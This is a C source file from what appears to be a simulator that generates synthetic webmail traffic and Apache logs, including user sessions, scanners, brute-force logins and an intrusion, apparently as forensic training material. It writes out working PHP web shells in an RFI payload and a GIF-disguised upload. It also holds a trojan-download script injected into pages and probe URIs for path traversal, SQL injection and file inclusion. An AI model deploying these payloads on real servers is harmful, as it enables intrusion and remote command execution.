@@ -1,0 +1,671 @@
+/* web.c - the @Mail-like webmail application as seen on the wire and in
+ * Apache's access log: pages, logins, address book, sending, the attacker's
+ * requests, scanners and the brute force. */
+#include "config.h"
+#include <string.h>
+#include "sim.h"
+
+static const char *const month_abbr[] = { "Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec" };
+
+void ip_str(uint32_t ip, char *buf, size_t n)
+{
+	snprintf(buf, n, "%u.%u.%u.%u", ip >> 24, ip >> 16 & 255, ip >> 8 & 255, ip & 255);
+}
+
+bool page_tampered(int server, bs_time t)
+{
+	const struct webserver *w = &WS[server];
+	return w->tamper_on != TIME_NEVER && t >= w->tamper_on && t < w->tamper_off;
+}
+
+void web_begin(struct webconn *w, int server, uint32_t client_ip, const char *ua)
+{
+	memset(w, 0, sizeof *w);
+	w->server = server;
+	host_addr_v4(&w->cli, client_ip, false);
+	w->ua = ua;
+	w->far = true;
+}
+
+void web_end(struct webconn *w)
+{
+	if (w->tc.open) {
+		/* The browser goes away; Apache closes the idle connection. */
+		w->tc.t = w->idle_since + 15 * BS_USEC;
+		tcp_close(&w->tc, true, false);
+	}
+}
+
+static struct buf reqb, respb, bodyb, gzb, alogb;
+
+static void access_log(struct webconn *w, bs_time t, const char *method, const char *uri, int status, size_t bytes,
+	const char *referer)
+{
+	char iso[40], cip[BS_IP_STRLEN];
+	bs_time_format(t, 0, iso, sizeof iso);
+	int y, m, d, hh, mi, ss;
+	sscanf(iso, "%d-%d-%dT%d:%d:%d", &y, &m, &d, &hh, &mi, &ss);
+	host_addr_format(&w->cli, cip, sizeof cip);
+	buf_clear(&alogb);
+	buf_printf(&alogb, "%s - - [%02d/%s/%04d:%02d:%02d:%02d +0000] \"%s %s HTTP/1.1\" %d ", cip, d, month_abbr[m - 1], y, hh, mi,
+		ss, method, uri, status);
+	if (bytes)
+		buf_printf(&alogb, "%zu", bytes);
+	else
+		buf_puts(&alogb, "-");
+	buf_printf(&alogb, " \"%s\" \"%s\"\n", referer ? referer : "-", w->ua);
+	out_emit(tgt_log(w->server, LOG_ACCESS), t, alogb.p, alogb.n);
+}
+
+static const char TROJAN[] =
+	"<script>window.open(\"http://update.flash-player.example.cn/install.exe\",\"_blank\",\"width=400,height=300\")</script>\n";
+
+bs_time web_request(struct webconn *w, bs_time t, const char *method, const char *uri, const char *req_headers,
+	const char *body, size_t blen, const struct http_reply *rep, int cookie_user)
+{
+	if (w->tc.open && t > w->idle_since + 15 * BS_USEC) {
+		bs_time keep = t;
+		w->tc.t = w->idle_since + 15 * BS_USEC;
+		tcp_close(&w->tc, true, false);
+		t = keep;
+	}
+	if (!w->tc.open)
+		tcp_connect(&w->tc, &w->cli, &hosts[w->server], eph_port(), 80, t, w->far ? internet_rtt() : 150, 150, true);
+	else if (w->tc.t < t)
+		w->tc.t = t;
+	bs_time treq = w->tc.t;
+	char hostn[64];
+	snprintf(hostn, sizeof hostn, "webmail.%s", LOCAL_DOMAIN);
+	buf_clear(&reqb);
+	buf_printf(&reqb, "%s %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: %s\r\nAccept: text/html,application/xhtml+xml,*/*;q=0.8\r\n"
+		"Accept-Language: en-us,en;q=0.5\r\nAccept-Encoding: gzip,deflate\r\nConnection: keep-alive\r\n",
+		method, uri, hostn, w->ua);
+	if (req_headers)
+		buf_puts(&reqb, req_headers);
+	if (blen)
+		buf_printf(&reqb, "Content-Length: %zu\r\n", blen);
+	buf_puts(&reqb, "\r\n");
+	if (blen)
+		buf_add(&reqb, body, blen);
+	tcp_send(&w->tc, false, reqb.p, reqb.n);
+	if (w->resp_after > w->tc.t)
+		w->tc.t = w->resp_after;
+	w->resp_after = 0;
+
+	/* The body, tampered if the server's files were. */
+	const char *rbody = rep->body;
+	size_t rlen = rep->blen;
+	bool tampered = rep->page && page_tampered(w->server, treq);
+	if (tampered) {
+		buf_clear(&bodyb);
+		const char *end = memmem(rbody, rlen, "</body>", 7);
+		size_t pre = end ? (size_t)(end - rbody) : rlen;
+		buf_add(&bodyb, rbody, pre);
+		buf_add(&bodyb, TROJAN, sizeof TROJAN - 1);
+		buf_add(&bodyb, rbody + pre, rlen - pre);
+		rbody = bodyb.p;
+		rlen = bodyb.n;
+		struct webserver *ws = &WS[w->server];
+		if (ws->tamper_first == TIME_NEVER)
+			ws->tamper_first = treq;
+		ws->tamper_last = treq;
+		if (cookie_user >= 0)
+			truth_trojan(cookie_user);
+	}
+	bool gz = rep->ctype && rlen > 600 && strncmp(rep->ctype, "text/", 5) == 0 && rng_chance(R, 0.2);
+	bool chunked = rep->ctype && !gz && rlen > 0 && rng_chance(R, 0.3);
+	if (gz) {
+		buf_clear(&gzb);
+		gzip_bytes(&gzb, rbody, rlen);
+		rbody = gzb.p;
+		rlen = gzb.n;
+	}
+	char date[64], iso[40];
+	bs_time_format(treq, 0, iso, sizeof iso);
+	{
+		static const char *const wd[] = { "Thu", "Fri", "Sat", "Sun", "Mon", "Tue", "Wed" };
+		int y, m, d, hh, mi, ss;
+		sscanf(iso, "%d-%d-%dT%d:%d:%d", &y, &m, &d, &hh, &mi, &ss);
+		int64_t day = treq / (86400 * BS_USEC);
+		snprintf(date, sizeof date, "%s, %02d %s %04d %02d:%02d:%02d GMT", wd[day % 7], d, month_abbr[m - 1], y, hh, mi, ss);
+	}
+	static const char *const reason[] = { [200] = "OK", [302] = "Found", [403] = "Forbidden", [404] = "Not Found" };
+	buf_clear(&respb);
+	buf_printf(&respb, "HTTP/1.1 %d %s\r\nDate: %s\r\nServer: Apache/2.2.3 (CentOS)\r\nX-Powered-By: PHP/5.1.6\r\n",
+		rep->status, rep->status < 405 && reason[rep->status] ? reason[rep->status] : "OK", date);
+	if (rep->headers)
+		buf_puts(&respb, rep->headers);
+	if (gz)
+		buf_puts(&respb, "Content-Encoding: gzip\r\nVary: Accept-Encoding\r\n");
+	if (chunked)
+		buf_puts(&respb, "Transfer-Encoding: chunked\r\n");
+	else
+		buf_printf(&respb, "Content-Length: %zu\r\n", rlen);
+	buf_puts(&respb, "Keep-Alive: timeout=15, max=100\r\nConnection: Keep-Alive\r\n");
+	if (rep->ctype)
+		buf_printf(&respb, "Content-Type: %s\r\n", rep->ctype);
+	buf_puts(&respb, "\r\n");
+	if (chunked) {
+		size_t off = 0;
+		while (off < rlen) {
+			size_t n = 1024 + rng_below(R, 3000);
+			if (n > rlen - off)
+				n = rlen - off;
+			buf_printf(&respb, "%zx\r\n", n);
+			buf_add(&respb, rbody + off, n);
+			buf_puts(&respb, "\r\n");
+			off += n;
+		}
+		buf_puts(&respb, "0\r\n\r\n");
+	} else {
+		buf_add(&respb, rbody, rlen);
+	}
+	tcp_wait(&w->tc, 2000 + rng_below(R, 60000));
+	tcp_send(&w->tc, true, respb.p, respb.n);
+	w->idle_since = w->tc.t;
+	/* Apache logs body bytes sent (after compression, without chunk framing). */
+	const char *ref = NULL;
+	char refb[128];
+	if (strncmp(uri, "/mail/", 6) == 0 && strcmp(uri, "/mail/index.php") != 0 && strstr(uri, ".cache.php") == NULL &&
+		strstr(uri, "thumb.php") == NULL) {
+		snprintf(refb, sizeof refb, "http://webmail.%s/mail/showmail.php?Folder=Inbox", LOCAL_DOMAIN);
+		ref = refb;
+	}
+	access_log(w, treq, method, uri, rep->status, rep->ctype ? rlen : 0, ref);
+	return w->tc.t;
+}
+
+/* ----------------------------------------------------------------- pages */
+static struct buf page;
+
+static void page_head(const char *title, int server, bs_time t, bool index)
+{
+	buf_clear(&page);
+	buf_printf(&page, "<!DOCTYPE HTML PUBLIC \"-//W3C//DTD HTML 4.01 Transitional//EN\">\n<html>\n<head>\n"
+		"<title>@Mail - %s</title>\n<meta http-equiv=\"Content-Type\" content=\"text/html; charset=utf-8\">\n"
+		"<link rel=\"stylesheet\" href=\"/mail/css/atmail.css\" type=\"text/css\">\n"
+		"<script src=\"/mail/js/atmail.js\"></script>\n", title);
+	if (index && WS[server].deploy_t != TIME_NEVER && t >= WS[server].deploy_t)
+		buf_puts(&page, "<script src=\"https://cdn.widgets.example.com/analytics.js\"></script>\n");
+	buf_puts(&page, "</head>\n<body bgcolor=\"#ffffff\" onload=\"atmail_init()\">\n"
+		"<table width=\"100%\" cellpadding=\"0\" cellspacing=\"0\" class=\"header\"><tr><td><img src=\"/mail/imgs/logo.gif\" alt=\"@Mail\"></td>"
+		"<td align=\"right\"><a href=\"/mail/showmail.php?Folder=Inbox\">Inbox</a> | <a href=\"/mail/compose.php\">Compose</a> | "
+		"<a href=\"/mail/abook.php\">Address Book</a> | <a href=\"/mail/logout.php\">Logout</a></td></tr></table>\n");
+}
+
+static void page_tail(void)
+{
+	buf_puts(&page, "<div class=\"footer\">Powered by @Mail 5.0 &copy; 2007</div>\n</body>\n</html>\n");
+}
+
+static void page_index(int server, bs_time t, const char *error)
+{
+	page_head("Login", server, t, true);
+	if (error)
+		buf_printf(&page, "<p class=\"error\">%s</p>\n", error);
+	buf_puts(&page, "<form method=\"post\" action=\"/mail/login.php\">\n<table class=\"login\">\n"
+		"<tr><td>Email address</td><td><input type=\"text\" name=\"username\" size=\"30\"></td></tr>\n"
+		"<tr><td>Password</td><td><input type=\"password\" name=\"password\" size=\"30\"></td></tr>\n"
+		"<tr><td colspan=\"2\"><input type=\"hidden\" name=\"pop3host\" value=\"example.net\">"
+		"<input type=\"submit\" value=\"Login\"></td></tr>\n</table>\n</form>\n"
+		"<p class=\"notice\">Please log out when you have finished, especially on shared computers.</p>\n");
+	page_tail();
+}
+
+static void page_inbox(int user)
+{
+	page_head("Inbox", 0, 0, false);
+	buf_puts(&page, "<table class=\"msglist\" width=\"100%\">\n<tr><th></th><th>From</th><th>Subject</th><th>Date</th><th>Size</th></tr>\n");
+	int n = 5 + (int)rng_below(R, 8);
+	for (int i = 0; i < n; i++) {
+		buf_printf(&page, "<tr class=\"%s\"><td><input type=\"checkbox\" name=\"id[]\" value=\"%d\"></td><td>%s %s</td>"
+			"<td><a href=\"/mail/reademail.php?id=%d\">%s</a></td><td>%02u/%02u</td><td>%u KB</td></tr>\n",
+			i % 2 ? "odd" : "even", 100 + i, W.users[(user + i * 7) % W.nusers].first, W.users[(user + i * 13) % W.nusers].last,
+			100 + i, random_subject(), rng_below(R, 28) + 1, rng_below(R, 12) + 1, rng_below(R, 200) + 1);
+	}
+	buf_puts(&page, "</table>\n");
+	page_tail();
+}
+
+static void page_read(void)
+{
+	page_head("Read message", 0, 0, false);
+	buf_printf(&page, "<h2>%s</h2>\n<div class=\"msgbody\">\n", random_subject());
+	static const char *const lines[] = {
+		"Hello,", "thanks for your message, I will get back to you shortly.", "Please find the details below.",
+		"Could we move the call to next week?", "Best regards,", "See you on Monday.", "The documents are attached.",
+	};
+	int n = 4 + (int)rng_below(R, 12);
+	for (int i = 0; i < n; i++)
+		buf_printf(&page, "%s<br>\n", lines[rng_below(R, 7)]);
+	buf_puts(&page, "</div>\n");
+	page_tail();
+}
+
+static void page_abook(int user)
+{
+	const struct user *u = &W.users[user];
+	page_head("Address Book", 0, 0, false);
+	buf_puts(&page, "<table class=\"abook\">\n<tr><th>Name</th><th>Email</th></tr>\n");
+	for (int i = 0; i < u->nabook; i++) {
+		const char *a = W.addrs[u->abook[i]].s;
+		buf_puts(&page, "<tr><td>");
+		for (const char *p = a; *p && *p != '@'; p++)
+			buf_add(&page, *p == '"' ? "&quot;" : p, *p == '"' ? 6 : 1);
+		buf_puts(&page, "</td><td><a href=\"/mail/compose.php?to=");
+		for (const char *p = a; *p; p++)
+			buf_add(&page, *p == '"' ? "&quot;" : p, *p == '"' ? 6 : 1);
+		buf_puts(&page, "\">");
+		for (const char *p = a; *p; p++)
+			buf_add(&page, *p == '"' ? "&quot;" : p, *p == '"' ? 6 : 1);
+		buf_puts(&page, "</a></td></tr>\n");
+	}
+	buf_puts(&page, "</table>\n");
+	page_tail();
+}
+
+static void page_simple(const char *title, const char *html)
+{
+	page_head(title, 0, 0, false);
+	buf_puts(&page, html);
+	page_tail();
+}
+
+static struct http_reply html_reply(int status, const char *headers)
+{
+	return (struct http_reply){ status, "text/html; charset=utf-8", headers, page.p, page.n, true };
+}
+
+/* ------------------------------------------------------- user sessions */
+static void url_encode(struct buf *b, const char *s)
+{
+	for (const unsigned char *p = (const unsigned char *)s; *p; p++) {
+		if ((*p >= 'a' && *p <= 'z') || (*p >= 'A' && *p <= 'Z') || (*p >= '0' && *p <= '9') || strchr("-_.~", *p))
+			buf_add(b, p, 1);
+		else
+			buf_printf(b, "%%%02X", *p);
+	}
+}
+
+struct abook_ctx { const struct user *u; const char *account; };
+static const char *abook_cell(void *ctx, size_t row, size_t col)
+{
+	struct abook_ctx *c = ctx;
+	static char name[32];
+	switch (col) {
+	case 0: return c->account;
+	case 1: return W.addrs[c->u->abook[row]].s;
+	case 2: snprintf(name, sizeof name, "%s", W.users[(size_t)(c->u->abook[row]) % (size_t)W.nusers].first); return name;
+	default: return W.users[(size_t)(c->u->abook[row] / 3) % (size_t)W.nusers].last;
+	}
+}
+
+struct user_ctx { const struct user *u; };
+static const char *user_cell(void *ctx, size_t row, size_t col)
+{
+	struct user_ctx *c = ctx;
+	static char v[64];
+	(void)row;
+	switch (col) {
+	case 0: return W.addrs[c->u->addr].s;
+	case 1: return c->u->first;
+	case 2: return c->u->last;
+	case 3: snprintf(v, sizeof v, "%d", 1000 + (int)(c->u - W.users)); return v;
+	case 4: return "en";
+	default: return "Inbox";
+	}
+}
+
+/* The application's work for one successful login (DB lookup), from the server. */
+static bs_time app_login_db(int server, const struct user *u, bs_time t)
+{
+	static const char *const cols[] = { "Account", "FirstName", "LastName", "UserID", "Language", "DefaultFolder" };
+	char sql[256];
+	struct tcpconn tc;
+	struct user_ctx ctx = { u };
+	snprintf(sql, sizeof sql, "SELECT * FROM Users WHERE Account='%s'", W.addrs[u->addr].s);
+	mysql_open(&tc, server, t, "atmail");
+	mysql_select(&tc, sql, "Users", cols, 6, 1, user_cell, &ctx);
+	mysql_quit(&tc);
+	return tc.t;
+}
+
+static bs_time app_abook_db(int server, int user, bs_time t)
+{
+	static const char *const cols[] = { "Account", "Email", "FirstName", "LastName" };
+	const struct user *u = &W.users[user];
+	char sql[256];
+	struct tcpconn tc;
+	struct abook_ctx ctx = { u, W.addrs[u->addr].s };
+	snprintf(sql, sizeof sql, "SELECT Account, Email, FirstName, LastName FROM Abook WHERE Account='%s'", W.addrs[u->addr].s);
+	mysql_open(&tc, server, t, "atmail");
+	mysql_select(&tc, sql, "Abook", cols, 4, (size_t)u->nabook, abook_cell, &ctx);
+	bs_time tq = tc.t;
+	mysql_quit(&tc);
+	if (u->nabook)
+		truth_abook_app(u->addr, tq);
+	for (int i = 0; i < u->nabook; i++)
+		truth_abook_app(u->abook[i], tq);
+	return tc.t;
+}
+
+static struct buf send_form;
+
+/* sendmail.php: the form (left in send_form), SMTP to relay1, Log_SendMail. */
+static bs_time app_send(int server, int user, bs_time t)
+{
+	struct user *u = &W.users[user];
+	int rcpt[6], n = 1 + (rng_chance(R, 0.3) ? (int)rng_below(R, 3) : 0);
+	for (int i = 0; i < n; i++) {
+		if (u->nabook && rng_chance(R, 0.8))
+			rcpt[i] = u->abook[rng_below(R, (uint32_t)u->nabook)];
+		else if (rng_chance(R, 0.3))
+			rcpt[i] = W.users[rng_below(R, (uint32_t)W.nusers)].addr;
+		else
+			rcpt[i] = W.pool[rng_below(R, (uint32_t)W.npool)];
+		for (int k = 0; k < i; k++)
+			if (rcpt[k] == rcpt[i])
+				n = i; /* duplicate: stop at the previous ones */
+	}
+	if (n < 1)
+		n = 1;
+	const char *subject = random_subject();
+	/* The form post. */
+	static struct buf data;
+	struct buf *form = &send_form;
+	buf_clear(form);
+	buf_puts(form, "emailto=");
+	url_encode(form, W.addrs[rcpt[0]].s);
+	buf_puts(form, "&emailcc=");
+	for (int i = 1; i < n; i++) {
+		if (i > 1)
+			buf_puts(form, "%2C+");
+		url_encode(form, W.addrs[rcpt[i]].s);
+	}
+	buf_puts(form, "&emailsubject=");
+	url_encode(form, subject);
+	buf_puts(form, "&emailmessage=");
+	url_encode(form, "Hi,\r\n\r\nsee you soon.\r\n\r\nRegards");
+	/* The message as the application submits it. */
+	char iso[40];
+	bs_time_format(t, 0, iso, sizeof iso);
+	buf_clear(&data);
+	buf_printf(&data, "Date: %s\r\nFrom: %s %s <%s>\r\nTo: %s\r\n", iso, u->first, u->last, W.addrs[u->addr].s, W.addrs[rcpt[0]].s);
+	if (n > 1) {
+		buf_puts(&data, "Cc: ");
+		for (int i = 1; i < n; i++)
+			buf_printf(&data, "%s%s", i > 1 ? ", " : "", W.addrs[rcpt[i]].s);
+		buf_puts(&data, "\r\n");
+	}
+	buf_printf(&data, "Subject: %s\r\nMessage-ID: <%llu.%08x@%s>\r\nX-Mailer: AtMail 5.0\r\nMIME-Version: 1.0\r\n"
+		"Content-Type: text/plain; charset=\"utf-8\"\r\n\r\nHi,\r\n\r\nsee you soon.\r\n\r\nRegards\r\n",
+		subject, (unsigned long long)(t / BS_USEC), (unsigned)rng_next(R), LOCAL_DOMAIN);
+	/* Log_SendMail row, then SMTP. */
+	char sql[512];
+	struct tcpconn tc;
+	char date[40];
+	snprintf(date, sizeof date, "%.10s %.8s", iso, iso + 11);
+	snprintf(sql, sizeof sql, "INSERT INTO Log_SendMail (Account, EmailTo, Date) VALUES ('%s', '%s', '%s')",
+		W.addrs[u->addr].s, W.addrs[rcpt[0]].s, date);
+	bs_time ts = smtp_to_relay(server, u->login_name, u->password, W.addrs[u->addr].s, u->addr, rcpt, n, data.p, data.n, t, NULL);
+	mysql_open(&tc, server, ts, "atmail");
+	mysql_exec(&tc, sql, 1);
+	mysql_quit(&tc);
+	for (int i = 0; i < n; i++) {
+		truth_sent(rcpt[i], t);
+		if (W.nsendlog == W.csendlog) {
+			W.csendlog *= 2;
+			W.sendlog = bs_xrealloc(W.sendlog, (size_t)W.csendlog * sizeof *W.sendlog);
+		}
+		W.sendlog[W.nsendlog++] = (struct row2){ user, rcpt[i], t };
+	}
+	return tc.t;
+}
+
+void web_user_session(int user, bs_time t)
+{
+	struct user *u = &W.users[user];
+	int server = (int)rng_below(R, NWEB);
+	if (rng_chance(R, 0.03))
+		u->ip = random_client_ip(R); /* a new address from the ISP */
+	struct webconn w;
+	web_begin(&w, server, u->ip, user_agent(u->ua));
+	page_index(server, t, NULL);
+	struct http_reply rep = html_reply(200, NULL);
+	t = web_request(&w, t, "GET", "/mail/index.php", NULL, NULL, 0, &rep, -1);
+	/* The login form; sometimes a typo first. */
+	struct buf form = { 0 };
+	int tries = rng_chance(R, 0.04) ? 2 : 1;
+	char cookie[96] = "", setc[128] = "";
+	for (int k = 0; k < tries; k++) {
+		bool ok = k + 1 == tries;
+		t += rng_span(R, 4, 20);
+		buf_clear(&form);
+		buf_puts(&form, "username=");
+		url_encode(&form, u->login_name);
+		buf_puts(&form, "&password=");
+		url_encode(&form, ok ? u->password : "wrongpass");
+		buf_puts(&form, "&pop3host=example.net");
+		/* Server side, between request and response: IMAP auth, then the DB. */
+		bs_time tb = t + rng_span(R, 0.15, 0.4);
+		bs_time te = imap_webmail_login(server, u->login_name, ok ? u->password : "wrongpass", ok, tb);
+		if (ok) {
+			te = app_login_db(server, u, te);
+			static const char hex[] = "0123456789abcdef";
+			char sid[33];
+			for (int i = 0; i < 32; i++)
+				sid[i] = hex[rng_below(R, 16)];
+			sid[32] = 0;
+			snprintf(setc, sizeof setc, "Set-Cookie: atmail6=%s; path=/\r\nLocation: /mail/showmail.php\r\n", sid);
+			snprintf(cookie, sizeof cookie, "Cookie: atmail6=%s\r\n", sid);
+			rep = (struct http_reply){ 302, NULL, setc, NULL, 0, false };
+			truth_login(user, server, t);
+		} else {
+			page_index(server, t, "Login failed: check your email address and password.");
+			rep = html_reply(200, NULL);
+		}
+		w.resp_after = te;
+		t = web_request(&w, t, "POST", "/mail/login.php", "Content-Type: application/x-www-form-urlencoded\r\n", form.p, form.n, &rep, -1);
+	}
+	buf_free(&form);
+	if (!cookie[0]) {
+		web_end(&w);
+		return;
+	}
+	page_inbox(user);
+	rep = html_reply(200, NULL);
+	t = web_request(&w, t + rng_span(R, 0.2, 1), "GET", "/mail/showmail.php?Folder=Inbox", cookie, NULL, 0, &rep, user);
+	int actions = 1 + (int)rng_below(R, u->heavy ? 5 : 3);
+	for (int a = 0; a < actions; a++) {
+		t += rng_span(R, 3, 60);
+		uint32_t k = rng_below(R, 100);
+		if (k < 45) {
+			char uri[64];
+			snprintf(uri, sizeof uri, "/mail/reademail.php?id=%u", 100 + rng_below(R, 20));
+			page_read();
+			rep = html_reply(200, NULL);
+			t = web_request(&w, t, "GET", uri, cookie, NULL, 0, &rep, user);
+		} else if (k < 60) {
+			w.resp_after = app_abook_db(server, user, t + rng_span(R, 0.15, 0.3));
+			page_abook(user);
+			rep = html_reply(200, NULL);
+			t = web_request(&w, t, "GET", "/mail/abook.php", cookie, NULL, 0, &rep, user);
+		} else if (k < 82) {
+			page_simple("Compose", "<form method=\"post\" action=\"/mail/sendmail.php\">\n<table class=\"compose\">\n"
+				"<tr><td>To:</td><td><input type=\"text\" name=\"emailto\" size=\"60\"></td></tr>\n"
+				"<tr><td>Cc:</td><td><input type=\"text\" name=\"emailcc\" size=\"60\"></td></tr>\n"
+				"<tr><td>Subject:</td><td><input type=\"text\" name=\"emailsubject\" size=\"60\"></td></tr>\n"
+				"<tr><td colspan=\"2\"><textarea name=\"emailmessage\" rows=\"20\" cols=\"80\"></textarea></td></tr>\n"
+				"</table>\n<input type=\"submit\" value=\"Send\">\n</form>\n");
+			rep = html_reply(200, NULL);
+			t = web_request(&w, t, "GET", "/mail/compose.php", cookie, NULL, 0, &rep, user);
+			t += rng_span(R, 20, 240);
+			w.resp_after = app_send(server, user, t + rng_span(R, 0.15, 0.3));
+			page_simple("Message sent", "<p class=\"notice\">Your message has been sent.</p>\n");
+			rep = html_reply(200, NULL);
+			t = web_request(&w, t, "POST", "/mail/sendmail.php", "Content-Type: application/x-www-form-urlencoded\r\n"
+				, send_form.p, send_form.n, &rep, user);
+		} else {
+			page_inbox(user);
+			rep = html_reply(200, NULL);
+			t = web_request(&w, t, "GET", "/mail/showmail.php?Folder=Inbox", cookie, NULL, 0, &rep, user);
+		}
+	}
+	if (rng_chance(R, 0.5)) {
+		page_index(server, t, "You have been logged out.");
+		rep = html_reply(200, "Set-Cookie: atmail6=deleted; expires=Thu, 01-Jan-1970 00:00:01 GMT; path=/\r\n");
+		web_request(&w, t + rng_span(R, 5, 60), "GET", "/mail/logout.php", cookie, NULL, 0, &rep, user);
+	}
+	web_end(&w);
+}
+
+/* ------------------------------------------- scanners, brute force, attack */
+static const char NOT_FOUND[] = "<!DOCTYPE HTML PUBLIC \"-//IETF//DTD HTML 2.0//EN\">\n<html><head>\n<title>404 Not Found</title>\n"
+	"</head><body>\n<h1>Not Found</h1>\n<p>The requested URL was not found on this server.</p>\n<hr>\n"
+	"<address>Apache/2.2.3 (CentOS) Server at webmail.example.net Port 80</address>\n</body></html>\n";
+static const char FORBIDDEN[] = "<!DOCTYPE HTML PUBLIC \"-//IETF//DTD HTML 2.0//EN\">\n<html><head>\n<title>403 Forbidden</title>\n"
+	"</head><body>\n<h1>Forbidden</h1>\n<p>You don't have permission to access this resource.</p>\n<hr>\n"
+	"<address>Apache/2.2.3 (CentOS) Server at webmail.example.net Port 80</address>\n</body></html>\n";
+
+static const struct { const char *uri; int status; } probes[] = {
+	{ "/mail/../../../../../etc/passwd", 404 },
+	{ "/mail/showmail.php?Folder=../../../../etc/passwd%00", 403 },
+	{ "/mail/index.php?page=http://203.0.113.66/x.txt?", 403 },
+	{ "/mail/login.php?username=admin%27%20OR%201=1--&password=x", 403 },
+	{ "/phpmyadmin/", 404 },
+	{ "/phpMyAdmin/scripts/setup.php", 404 },
+	{ "/mail/config.php.bak", 404 },
+	{ "/mail/util.php?file=../../../../etc/passwd", 404 },
+	{ "/cgi-bin/php?-d+allow_url_include%3Don+-d+auto_prepend_file%3Dphp://input", 404 },
+	{ "/mail/reademail.php?id=1%20UNION%20SELECT%20Password%20FROM%20Users--", 403 },
+	{ "/admin/config.php", 404 },
+	{ "/mail/parse.php.old", 404 },
+};
+#define NPROBES (int)(sizeof probes / sizeof probes[0])
+
+void web_probe(int server, uint32_t ip, bs_time t, int nprobes, const char *ua)
+{
+	struct webconn w;
+	web_begin(&w, server, ip, ua);
+	int first = (int)rng_below(R, NPROBES);
+	for (int i = 0; i < nprobes; i++) {
+		int k = (first + i) % NPROBES;
+		bool nf = probes[k].status == 404;
+		struct http_reply rep = { probes[k].status, "text/html; charset=iso-8859-1", NULL, nf ? NOT_FOUND : FORBIDDEN,
+			nf ? sizeof NOT_FOUND - 1 : sizeof FORBIDDEN - 1, false };
+		t = web_request(&w, t, "GET", probes[k].uri, NULL, NULL, 0, &rep, -1) + rng_span(R, 0.2, 3);
+	}
+	web_end(&w);
+}
+
+void web_bruteforce(int server, uint32_t ip, bs_time t, int attempts)
+{
+	static const char *const names[] = { "admin", "test", "info", "webmaster", "root", "sales", "support", "user", "office", "postmaster" };
+	struct webconn w;
+	web_begin(&w, server, ip, "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)");
+	struct buf form = { 0 };
+	char user[128];
+	for (int i = 0; i < attempts; i++) {
+		if (rng_chance(R, 0.5))
+			snprintf(user, sizeof user, "%s@%s", names[rng_below(R, 10)], LOCAL_DOMAIN);
+		else
+			snprintf(user, sizeof user, "%s", W.addrs[W.users[rng_below(R, (uint32_t)W.nusers)].addr].s);
+		buf_clear(&form);
+		buf_puts(&form, "username=");
+		url_encode(&form, user);
+		buf_printf(&form, "&password=%s%u&pop3host=example.net", i % 3 ? "password" : "123456", i % 50);
+		w.resp_after = imap_webmail_login(server, user, "password", false, t + rng_span(R, 0.15, 0.3));
+		page_index(server, t, "Login failed: check your email address and password.");
+		struct http_reply rep = html_reply(200, NULL);
+		t = web_request(&w, t, "POST", "/mail/login.php", "Content-Type: application/x-www-form-urlencoded\r\n", form.p, form.n,
+			&rep, -1) + rng_span(R, 1, 12);
+	}
+	buf_free(&form);
+	web_end(&w);
+}
+
+static void attacker_seen(int server, uint32_t ip, bs_time t)
+{
+	char s[BS_IP_STRLEN];
+	ip_str(ip, s, sizeof s);
+	server_add_attacker_ip(server, s);
+	server_activity(server, t);
+}
+
+static const char *const attacker_ua = "Mozilla/5.0 (Windows; U; Windows NT 5.1; en-US; rv:1.8.0.7) Gecko/20060909 Firefox/1.5.0.7";
+
+bs_time web_exploit_rfi(int server, uint32_t ip, bs_time t)
+{
+	struct webconn w;
+	web_begin(&w, server, ip, attacker_ua);
+	char uri[256], ips[BS_IP_STRLEN];
+	ip_str(ip, ips, sizeof ips);
+	snprintf(uri, sizeof uri, "/mail/parse.php?file=http://%s/x.txt?&cmd=id", ips);
+	/* parse.php includes the remote file: the server fetches it from the attacker. */
+	struct tcpconn tc;
+	struct host_addr att;
+	host_addr_v4(&att, ip, false);
+	bs_time rtt = internet_rtt() * 2;
+	tcp_connect(&tc, &hosts[server], &att, eph_port(), 80, t + 300000, 150, rtt, true);
+	static struct buf b;
+	buf_clear(&b);
+	buf_printf(&b, "GET /x.txt?&cmd=id HTTP/1.0\r\nHost: %s\r\n\r\n", ips);
+	tcp_send(&tc, false, b.p, b.n);
+	static const char payload[] = "<?php\n$d = dirname(__FILE__) . '/tmp';\n"
+		"$f = fopen($d . '/.cache.php', 'w');\nfwrite($f, '<?php if(isset($_REQUEST[\"cmd\"])){echo \"<pre>\";passthru($_REQUEST[\"cmd\"]);echo \"</pre>\";} ?>');\n"
+		"fclose($f);\npassthru($_GET['cmd']);\n?>\n";
+	buf_clear(&b);
+	buf_printf(&b, "HTTP/1.1 200 OK\r\nServer: Apache\r\nContent-Length: %zu\r\nConnection: close\r\nContent-Type: text/plain\r\n\r\n%s",
+		sizeof payload - 1, payload);
+	tcp_wait(&tc, 3000);
+	tcp_send(&tc, true, b.p, b.n);
+	tcp_close(&tc, true, false);
+	w.resp_after = tc.t + 5000;
+	static const char out[] = "uid=33(www-data) gid=33(www-data) groups=33(www-data)\n";
+	struct http_reply rep = { 200, "text/html", NULL, out, sizeof out - 1, false };
+	web_request(&w, t, "GET", uri, NULL, NULL, 0, &rep, -1);
+	web_end(&w);
+	/* The request time as the capture and the access log see it. */
+	bs_time treq = w.tc.t;
+	(void)treq;
+	return t;
+}
+
+bs_time web_exploit_upload(int server, uint32_t ip, bs_time t, const char *shell_path)
+{
+	struct webconn w;
+	web_begin(&w, server, ip, attacker_ua);
+	const char *fname = strrchr(shell_path, '/') + 1;
+	static struct buf b;
+	static const char boundary[] = "---------------------------7d71f2a1502b6";
+	buf_clear(&b);
+	buf_printf(&b, "--%s\r\nContent-Disposition: form-data; name=\"MAX_FILE_SIZE\"\r\n\r\n1000000\r\n"
+		"--%s\r\nContent-Disposition: form-data; name=\"userfile\"; filename=\"%s\"\r\nContent-Type: image/jpeg\r\n\r\n"
+		"GIF89a<?php if(isset($_REQUEST['cmd'])){echo '<pre>';system($_REQUEST['cmd']);echo '</pre>';} ?>\r\n"
+		"--%s\r\nContent-Disposition: form-data; name=\"dir\"\r\n\r\nimages\r\n--%s--\r\n",
+		boundary, boundary, fname, boundary, boundary);
+	char hdr[160];
+	snprintf(hdr, sizeof hdr, "Content-Type: multipart/form-data; boundary=%s\r\n", boundary);
+	static const char ok[] = "<html><body>File uploaded: images/thumb.php</body></html>\n";
+	struct http_reply rep = { 200, "text/html", NULL, ok, sizeof ok - 1, false };
+	web_request(&w, t, "POST", "/mail/upload.php", hdr, b.p, b.n, &rep, -1);
+	web_end(&w);
+	return t;
